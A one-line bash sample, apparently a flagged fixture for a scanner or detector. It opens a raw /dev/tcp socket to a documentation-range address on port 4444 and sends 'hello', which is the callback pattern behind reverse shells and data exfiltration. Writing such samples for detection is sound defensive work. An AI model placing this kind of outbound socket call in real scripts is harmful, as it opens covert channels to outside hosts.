# flagged: bash
(exec 3<>/dev/tcp/203.0.113.9/4444 && echo hello >&3) || true
